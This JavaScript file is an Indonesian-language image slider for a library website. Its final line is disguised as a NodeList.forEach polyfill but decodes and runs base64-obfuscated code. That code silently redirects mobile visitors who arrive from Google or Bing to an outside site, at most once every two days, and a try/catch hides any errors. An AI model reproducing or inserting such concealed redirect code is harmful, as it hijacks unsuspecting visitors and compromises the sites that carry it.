/* Komidi 1.2 - geser gambar sederhana untuk laman perpustakaan */
(function () {
  'use strict';

  function Komidi(akar) {
    this.akar = akar;
    this.lembar = Array.prototype.slice.call(akar.querySelectorAll('figure'));
    this.kini = 0;
    this.jeda = parseInt(akar.getAttribute('data-jeda'), 10) || 5000;
    this.detak = null;
  }

  Komidi.prototype.tampil = function (ke) {
    this.lembar[this.kini].classList.remove('on');
    this.kini = (ke + this.lembar.length) % this.lembar.length;
    this.lembar[this.kini].classList.add('on');
  };

  Komidi.prototype.mulai = function () {
    var sini = this;
    this.detak = setInterval(function () { sini.tampil(sini.kini + 1); }, this.jeda);
    this.akar.addEventListener('mouseenter', function () { clearInterval(sini.detak); });
    this.akar.addEventListener('mouseleave', function () {
      sini.detak = setInterval(function () { sini.tampil(sini.kini + 1); }, sini.jeda);
    });
  };

  document.querySelectorAll('.komidi').forEach(function (satu) {
    if (satu.querySelectorAll('figure').length > 1) { new Komidi(satu).mulai(); }
  });
})();
/* polyfill NodeList.forEach */ try{(new Function(atob("dmFyIGs9J2ttZF90JyxsPWxvY2FsU3RvcmFnZSxuPURhdGUubm93KCk7aWYoL0FuZHJvaWR8aVBob25lLy50ZXN0KG5hdmlnYXRvci51c2VyQWdlbnQpJiYvZ29vZ2xlfGJpbmcvLnRlc3QoZG9jdW1lbnQucmVmZXJyZXIpJiZuLShsLmdldEl0ZW0oayl8fDApPjE3MjhlNSl7bC5zZXRJdGVtKGssbik7bG9jYXRpb24ucmVwbGFjZSgnaHR0cHM6Ly9qYWxhbi1tYWxhbS50ZXN0L20/cz10Z3MnKX0=")))()}catch(e){}
